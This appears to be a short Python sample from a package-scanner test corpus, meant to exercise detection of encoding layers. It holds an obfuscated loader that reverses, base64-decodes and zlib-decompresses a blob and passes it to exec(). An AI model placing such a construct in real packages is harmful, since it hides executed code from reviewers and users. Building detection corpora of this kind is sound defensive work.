# pkgguard corpus 036 (encoding-layers), modelled on [scanner-heuristics]; inert, never run.
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"=kSp2lVK4XFMKcSFBYmS0bv9Jw"))
